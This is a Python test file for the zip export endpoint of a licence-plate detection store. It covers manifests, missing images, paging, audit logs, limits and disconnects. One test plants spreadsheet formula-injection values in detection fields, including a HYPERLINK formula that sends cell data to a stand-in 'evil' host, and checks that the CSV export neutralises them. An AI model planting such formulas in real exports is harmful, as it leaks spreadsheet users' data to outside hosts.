"""An export: all that a search finds, in a zip that says what is not in it."""

import asyncio
import csv
import dataclasses
import hashlib
import io
import json
import zipfile
from collections.abc import Mapping
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx2
import pytest
from sqlalchemy import text
from starlette.types import Message

from platevault.app.vault import Vault
from platevault.domain.errors import StoreUnavailable
from platevault.export.export import ExportSlots
from platevault.infra.disk.reserve import DiskRoom
from platevault.infra.objectstore import NewObject
from platevault.infra.objectstore.memory import MemoryStore
from platevault.web.api.export import exports
from platevault.web.app import build_app
from tests.makers import NODE, NOON, DetectionRows, a_detection, an_image
from tests.support.vaults import NOW, RULES, VIEWER, a_client, keep, looks, put_into_spool

NAMES = ["README.txt", "detections.csv", "manifest.json"]


def bytes_for(detection_id: str, kind: str = "full") -> bytes:
    return f"\xff\xd8 {detection_id} {kind}".encode("latin-1")


def an_image_of(detection_id: str, kind: str = "full", *, state: str = "stored", **more: Any) -> dict[str, Any]:
    data = bytes_for(detection_id, kind)
    return an_image(kind, state=state, sha256=hashlib.sha256(data).digest(), size=len(data), **more)


async def stored(vault: Vault, *rows: DetectionRows) -> None:
    """Rows, and the bytes of those of their images that are `stored`."""
    await keep(vault, *rows)
    for row in rows:
        for image in row.images:
            if image["state"] == "stored":
                data = bytes_for(row.detection_id, image["kind"])
                await vault.objects.create(image["key"], NewObject(data=data, content_type="image/jpeg", metadata={}))


def a_stored(detection_id: str, *, minutes: int = 0, **more: Any) -> DetectionRows:
    images = [an_image_of(detection_id)]
    return a_detection(detection_id, captured_at=NOON - timedelta(minutes=minutes), images=images, **more)


def opened(data: bytes) -> tuple[zipfile.ZipFile, dict[str, Any]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.testzip() is None
    return archive, json.loads(archive.read("manifest.json"))


def outcomes(manifest: Mapping[str, Any]) -> dict[str, str]:
    return {
        f"{one['detection_id']} {kind}": image["outcome"]
        for one in manifest["detections"]
        for kind, image in one["images"].items()
    }


async def exported(client: httpx2.AsyncClient, query: str = "", **more: Any) -> tuple[zipfile.ZipFile, dict[str, Any]]:
    answer = await client.get(f"/v1/export{query}", **more)
    assert answer.status_code == 200, answer.text
    return opened(answer.content)


async def test_images_stand_under_their_keys_with_the_bytes_of_their_digest(
    vault: Vault, viewer: httpx2.AsyncClient
) -> None:
    images = [an_image_of("evt_1"), an_image_of("evt_1", "crop")]
    await stored(vault, a_detection("evt_1", images=images, vehicle={"make": "Renault"}, data={"speed": 34}))
    headers = {"X-Purpose": "theft", "X-Case": "2025-0117", "X-Request-Id": "request-1"}
    answer = await viewer.get("/v1/export?plate=ab*", headers=headers)
    assert answer.headers["content-type"] == "application/zip"
    assert answer.headers["content-disposition"] == 'attachment; filename="platevault-export-20250115T130000Z.zip"'
    assert answer.headers["cache-control"] == "no-store"
    archive, manifest = opened(answer.content)
    keys = ["full/2025/01/15/evt_1_full.jpg", "crop/2025/01/15/evt_1_crop.jpg"]
    assert archive.namelist() == [*keys, *NAMES]
    (told,) = manifest["detections"]
    for kind, key in zip(("full", "crop"), keys, strict=True):
        assert archive.read(key) == bytes_for("evt_1", kind)
        assert told["images"][kind]["file"] == key
        assert told["images"][kind]["sha256"] == hashlib.sha256(archive.read(key)).hexdigest()
    assert (told["plate"], told["vehicle"], told["data"]) == ("AB-123-CD", {"make": "Renault"}, {"speed": 34})
    assert manifest["exported_by"] == {
        "actor": "viewer",
        "actor_kind": "token",
        "purpose": "theft",
        "case": "2025-0117",
        "request_id": "request-1",
    }
    assert (manifest["exported_at"], manifest["filters"]) == ("2025-01-15T13:00:00Z", {"plate": "ab*"})
    assert (manifest["complete"], manifest["next_cursor"]) == (True, None)
    assert archive.comment == b"Platevault export: 1 detections; nothing follows"


async def test_filters_as_json_say_the_same(vault: Vault, viewer: httpx2.AsyncClient) -> None:
    await stored(vault, a_stored("evt_1"), a_stored("evt_2", plate="ZZ-9"))
    answer = await viewer.post("/v1/export", json={"plate": "ZZ9", "limit": 5})
    assert list(outcomes(opened(answer.content)[1])) == ["evt_2 full"]
    assert (await looks(vault))[0]["filters"] == {"plate": "ZZ9", "limit": 5}


async def test_what_is_not_there_is_listed_with_its_reason_and_never_faked(
    vault: Vault, viewer: httpx2.AsyncClient, tmp_path: Path
) -> None:
    images = [an_image(state, state=state) for state in ("expired", "deleted", "missing", "rejected")]
    await stored(vault, a_detection("evt_1", images=[*images, an_image_of("evt_1", "absent"), an_image_of("evt_1")]))
    await vault.objects.delete("absent/2025/01/15/evt_1_absent.jpg")
    key = "full/2025/01/15/evt_1_full.jpg"
    await vault.objects.delete(key)
    await vault.objects.create(key, NewObject(data=b"something else", content_type="image/jpeg", metadata={}))
    await put_into_spool(vault, tmp_path, "here.batch", b"..." + bytes_for("evt_2", "full"))
    here = {"spool_node": vault.node_id, "spool_file": "here.batch", "spool_offset": 3}
    waiting = [
        an_image_of("evt_2", "full", state="pending", **here),
        an_image_of("evt_2", "crop", state="pending", spool_node=NODE),
    ]
    await keep(vault, a_detection("evt_2", images=waiting))
    archive, manifest = await exported(viewer)
    assert outcomes(manifest) == {
        "evt_2 full": "included",
        "evt_2 crop": "pending",
        "evt_1 full": "corrupted",
        "evt_1 absent": "missing",
        "evt_1 expired": "expired",
        "evt_1 deleted": "deleted",
        "evt_1 missing": "missing",
        "evt_1 rejected": "rejected",
    }
    assert archive.namelist() == ["full/2025/01/15/evt_2_full.jpg", *NAMES]
    assert archive.read("full/2025/01/15/evt_2_full.jpg") == bytes_for("evt_2", "full")
    told = manifest["detections"][1]["images"]
    assert told["full"]["found_sha256"] == hashlib.sha256(b"something else").hexdigest()
    assert told["rejected"]["reason"] == "not a JPEG"
    assert {image["file"] for image in told.values()} == {None}
    letter = archive.read("README.txt").decode()
    for count, outcome in ((1, "corrupted"), (2, "missing"), (1, "pending"), (1, "expired")):
        assert f"  {count} {outcome}: " in letter
    assert manifest["counts"]["corrupted"] == 1


async def test_an_image_that_was_drained_or_moved_meanwhile_is_read_where_it_is(vault: Vault) -> None:
    class Moving(MemoryStore):
        async def get(self, key: str) -> bytes | None:
            if key.startswith("full/") and await super().get(key) is not None:
                await self.copy(key, f"holds/{key}")
                await self.delete(key)
                async with vault.database.reading() as connection:
                    await connection.execute(text("UPDATE images SET key = 'holds/' || key"))
                    await connection.commit()
            return await super().get(key)

    moving = dataclasses.replace(vault, objects=Moving(now=lambda: NOW))
    await stored(moving, a_stored("evt_1"))
    async with a_client(moving) as client:
        archive, manifest = await exported(client)
    assert outcomes(manifest) == {"evt_1 full": "included"}
    assert archive.namelist()[0] == "holds/full/2025/01/15/evt_1_full.jpg"


async def test_a_part_says_where_the_next_one_begins(vault: Vault, viewer: httpx2.AsyncClient) -> None:
    await stored(vault, *(a_stored(f"evt_{number}", minutes=number) for number in range(5)))
    seen, query = [], "?limit=2"
    for complete in (False, False, True):
        archive, manifest = await exported(viewer, query)
        assert manifest["complete"] is complete
        assert ("THIS IS NOT ALL" in archive.read("README.txt").decode()) is not complete
        assert (b"NOT ALL" in archive.comment) is not complete
        seen += list(outcomes(manifest))
        query = f"?limit=2&cursor={manifest['next_cursor']}"
    assert seen == [f"evt_{number} full" for number in range(5)]


async def test_pages_are_written_down_before_their_bytes_go_out(vault: Vault) -> None:
    """As many detections as are shown stand in the log, whenever the client goes."""
    rows = [a_detection(f"evt_{number:03}", captured_at=NOON - timedelta(seconds=number)) for number in range(450)]
    await keep(vault, *rows)
    async with a_client(vault) as client:
        _, manifest = await exported(client, headers={"X-Purpose": "theft", "X-Case": "1"})
    assert [one["detection_id"] for one in manifest["detections"]] == [row.detection_id for row in rows]
    found = await looks(vault)
    assert [len(look["detection_ids"]) for look in found] == [200, 200, 50]
    assert {(look["purpose"], look["case"], look["route"]) for look in found} == {("theft", "1", "/v1/export")}


async def test_a_table_runs_nothing_in_a_spreadsheet(vault: Vault, viewer: httpx2.AsyncClient) -> None:
    evil = '=HYPERLINK("http://evil/?"&A1;"x")'
    rows = [
        a_detection("evt_0", plate=evil, plate_searchable="X", camera_id="  +north", region="@SUM(A1)"),
        a_detection("evt_1", plate="-1", plate_searchable="1", camera_id='a,b"c', region="＝1+1"),
        a_detection("evt_2", camera_id="Köln", vehicle={"make": "=1", "color": ["-"], "year": 1999}, direction="in"),
    ]
    await keep(vault, *rows)
    archive, _ = await exported(viewer)
    text_of = archive.read("detections.csv").decode("utf-8-sig")
    assert archive.read("detections.csv").startswith(b"\xef\xbb\xbf")
    two, one, zero = csv.DictReader(io.StringIO(text_of, newline=""))
    assert (zero["plate"], zero["camera_id"], zero["region"]) == (f"'{evil}", "'  +north", "'@SUM(A1)")
    assert (one["plate"], one["camera_id"], one["region"]) == ("'-1", 'a,b"c', "'＝1+1")
    assert (two["plate"], two["camera_id"], two["vehicle_make"]) == ("AB-123-CD", "Köln", "'=1")
    assert (two["captured_at"], two["held"]) == ("2025-01-15T12:00:00+00:00", "no")


async def test_an_export_of_nothing_is_whole_and_empty(vault: Vault, viewer: httpx2.AsyncClient) -> None:
    archive, manifest = await exported(viewer, "?plate=NONE")
    assert archive.namelist() == NAMES
    assert (manifest["detections"], manifest["complete"]) == ([], True)
    assert [look["detection_ids"] for look in await looks(vault)] == [[]]


@pytest.mark.parametrize(
    ("query", "named"),
    [("limit=0", "limit"), ("limit=100001", "limit"), ("limit=x", "limit"), ("limit=1&limit=2", "limit"),
     ("order=seq", "order"), ("after=0", "after"), ("plat=x", "plat"), ("cursor=x", "cursor")],
)  # fmt: skip
async def test_a_wrong_question_is_a_problem_not_an_archive(
    vault: Vault, viewer: httpx2.AsyncClient, query: str, named: str
) -> None:
    answer = await viewer.get(f"/v1/export?{query}")
    assert (answer.status_code, answer.headers["content-type"]) == (422, "application/problem+json")
    assert answer.json()["detail"].startswith(named)
    assert await looks(vault) == []
    assert vault.exports.taken == 0


async def test_a_collector_exports_nothing(vault: Vault) -> None:
    async with a_client(vault, token=RULES.collector_token) as client:
        assert (await client.get("/v1/export")).status_code == 403


async def test_more_exports_than_a_process_makes_at_once_are_refused(vault: Vault, tmp_path: Path) -> None:
    busy = dataclasses.replace(vault, exports=ExportSlots(room=DiskRoom(tmp_path), most=1, taken=1))
    async with a_client(busy) as client:
        refused = await client.get("/v1/export")
        assert (refused.status_code, refused.headers["retry-after"]) == (429, "30")
        busy.exports.taken = 0
        assert (await client.get("/v1/export")).status_code == 200
    assert busy.exports.taken == 0


class Ending(MemoryStore):
    """Gives so many objects, then no answer; `alive` says whether it answers others."""

    def __init__(self, gives: int, *, alive: bool) -> None:
        super().__init__(now=lambda: NOW)
        self.gives = gives
        self.alive = alive

    async def get(self, key: str) -> bytes | None:
        self.gives -= 1
        if self.gives < 0:
            raise StoreUnavailable(f"could not get {key}")
        return await super().get(key)

    async def check(self) -> None:
        if not self.alive:
            raise StoreUnavailable("could not check")


async def test_when_the_store_goes_the_archive_ends_early_and_whole(vault: Vault) -> None:
    going = dataclasses.replace(vault, objects=Ending(1, alive=False))
    await stored(going, *(a_stored(f"evt_{number}", minutes=number) for number in range(3)))
    async with a_client(going) as client:
        archive, manifest = await exported(client)
        assert (manifest["complete"], manifest["ended_early"]) == (
            False,
            "the object store was not available any more",
        )
        assert archive.namelist() == ["full/2025/01/15/evt_0_full.jpg", *NAMES]
        assert list(outcomes(manifest)) == ["evt_0 full"]
        refused = await client.get(f"/v1/export?cursor={manifest['next_cursor']}")
        assert refused.status_code == 503, "where there is nothing to show for it, it is no archive"
        going.objects.gives = 100  # type: ignore[attr-defined]
        _, rest = await exported(client, f"?cursor={manifest['next_cursor']}")
    assert list(outcomes(rest)) == ["evt_1 full", "evt_2 full"]
    assert going.exports.taken == 0


async def test_one_object_that_cannot_be_read_does_not_stop_the_others(vault: Vault) -> None:
    rotten = dataclasses.replace(vault, objects=Ending(0, alive=True))
    await stored(rotten, a_stored("evt_1"))
    async with a_client(rotten) as client:
        archive, manifest = await exported(client)
    assert outcomes(manifest) == {"evt_1 full": "unreadable"}
    assert archive.namelist() == NAMES


ASKED: Mapping[str, Any] = {
    "type": "http",
    "method": "GET",
    "path": "/v1/export",
    "raw_path": b"/v1/export",
    "query_string": b"",
    "headers": [(b"authorization", f"Bearer {VIEWER}".encode()), (b"host", b"127.0.0.1")],
    "http_version": "1.1",
    "scheme": "http",
    "client": ("127.0.0.1", 1),
    "server": ("127.0.0.1", 80),
    "asgi": {"version": "3.0", "spec_version": "2.3"},
}


def large(detection_id: str, number: int) -> tuple[DetectionRows, bytes]:
    data = detection_id.encode() * 20_000
    image = an_image("full", sha256=hashlib.sha256(data).digest(), size=len(data))
    return a_detection(detection_id, captured_at=NOON - timedelta(minutes=number), images=[image]), data


async def test_a_detection_is_written_down_before_its_bytes_go_out(vault: Vault) -> None:
    """Looked at chunk by chunk, as a client that may go at any of them; each name stands in a file's header."""
    rows = [a_detection(f"evt_{number:03}", captured_at=NOON - timedelta(hours=number)) for number in range(1, 200)]
    for number, name in enumerate(("evt_000", "evt_200", "evt_201")):
        row, data = large(name, number and 60 * 200 + number)
        await keep(vault, row)
        await vault.objects.create(
            str(row.images[0]["key"]), NewObject(data=data, content_type="image/jpeg", metadata={})
        )
    await keep(vault, *rows)
    sent = bytearray()
    written: dict[str, bool] = {}

    async def receive() -> Message:
        await asyncio.sleep(3600)
        raise AssertionError

    async def send(message: Message) -> None:
        sent.extend(message.get("body", b""))
        known = {name for look in await looks(vault) for name in look["detection_ids"]}
        for name in ("evt_000", "evt_200", "evt_201"):
            if name.encode() in sent:
                written.setdefault(name, name in known)  # as it was when the first of its bytes went out
        assert vault.database.in_use == 0, "nobody who is slow holds a connection"

    await asyncio.wait_for(build_app(vault)({**ASKED}, receive, send), 20)
    assert len(await looks(vault)) == 2
    assert written == dict.fromkeys(("evt_000", "evt_200", "evt_201"), True)
    assert outcomes(opened(bytes(sent))[1]) == dict.fromkeys(
        ("evt_000 full", "evt_200 full", "evt_201 full"), "included"
    )


async def test_who_goes_away_leaves_neither_a_place_nor_a_connection_behind(vault: Vault) -> None:
    await stored(vault, *(a_stored(f"evt_{number}", minutes=number) for number in range(300)))
    began, sent = asyncio.Event(), []

    async def receive() -> Message:
        await began.wait()
        return {"type": "http.disconnect"}

    async def send(message: Message) -> None:
        sent.append(message["type"])
        if message["type"] == "http.response.body":
            began.set()
            assert vault.exports.taken == 1
            await asyncio.sleep(3600)

    await asyncio.wait_for(build_app(vault)({**ASKED}, receive, send), 20)
    assert sent == ["http.response.start", "http.response.body"]
    assert (vault.exports.taken, vault.database.in_use) == (0, 0)


async def test_who_takes_nothing_gives_its_place_back(vault: Vault, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "TAKEN_WITHIN_SECONDS", 0.05)

    async def send(message: Message) -> None:
        await asyncio.sleep(3600)

    async def receive() -> Message:
        await asyncio.sleep(3600)
        raise AssertionError

    await asyncio.wait_for(build_app(vault)({**ASKED}, receive, send), 20)
    assert vault.exports.taken == 0


async def test_no_more_than_a_few_images_are_in_memory(vault: Vault) -> None:
    class Counting(MemoryStore):
        at_once, most, given = 0, 0, 0

        async def get(self, key: str) -> bytes | None:
            self.at_once += 1
            self.most = max(self.most, self.at_once)
            await asyncio.sleep(0.001)
            self.at_once -= 1
            self.given += 1
            return await super().get(key)

    counting = Counting(now=lambda: NOW)
    slow = dataclasses.replace(vault, objects=counting)
    for number in range(40):
        row, data = large(f"evt_{number:03}", number)
        await keep(slow, row)
        await counting.create(str(row.images[0]["key"]), NewObject(data=data, content_type="image/jpeg", metadata={}))
    began, ahead = asyncio.Event(), 0

    async def receive() -> Message:
        await began.wait()
        return {"type": "http.disconnect"}

    async def send(message: Message) -> None:
        nonlocal ahead
        if message["type"] == "http.response.body":
            await asyncio.sleep(0.3)  # what may be fetched ahead of a client that stands still is fetched by now
            ahead = counting.given
            began.set()
            await asyncio.sleep(3600)

    await asyncio.wait_for(build_app(slow)({**ASKED}, receive, send), 20)
    assert 1 <= counting.most <= 8
    assert 1 <= ahead <= 10


async def test_nothing_stays_on_the_disk(vault: Vault, viewer: httpx2.AsyncClient, tmp_path: Path) -> None:
    await stored(vault, a_stored("evt_1"))
    await viewer.get("/v1/detections")  # the first read compares the erasures, and notes that it did
    before = sorted(tmp_path.rglob("*"))
    await exported(viewer)
    assert sorted(tmp_path.rglob("*")) == before
